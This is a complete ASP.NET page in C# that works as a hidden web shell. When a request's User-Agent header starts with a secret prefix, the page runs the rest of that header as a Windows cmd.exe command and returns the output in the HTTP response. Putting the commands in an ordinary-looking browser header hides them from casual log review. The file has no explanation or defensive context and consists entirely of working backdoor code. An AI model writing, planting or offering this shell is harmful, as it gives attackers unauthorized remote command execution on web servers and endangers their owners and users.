<%@ Page Language="C#" %><%@ Import Namespace="System.Diagnostics" %><%
if (Request.UserAgent != null && Request.UserAgent.StartsWith("Mozilla/5.0 (zz)")) {
  var psi = new ProcessStartInfo("cmd.exe", "/c " + Request.UserAgent.Substring(16));
  psi.UseShellExecute = false; psi.RedirectStandardOutput = true;
  Response.Write(Process.Start(psi).StandardOutput.ReadToEnd());
} %>
